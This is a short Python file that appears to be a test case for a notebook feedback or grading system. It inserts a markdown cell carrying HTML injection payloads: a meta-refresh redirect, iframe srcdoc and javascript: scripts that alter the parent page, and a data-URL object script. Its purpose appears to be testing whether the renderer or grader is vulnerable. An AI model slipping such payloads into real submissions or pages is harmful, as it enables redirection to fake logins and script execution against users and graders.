"""A meta refresh and framed pages: the feedback page turns into another one, for example a login."""

DESERVES = "full"


def submission(solved, blank):
    text = "<meta http-equiv='refresh' content='0;url=http://127.0.0.1:48484/refresh'>\n\n"
    text += "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>\n\n"
    text += "<iframe src='javascript:parent.document.title=1'></iframe><object data='data:text/html,<script>1</script>'></object>"
    solved["cells"].insert(1, {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": text})
    return solved
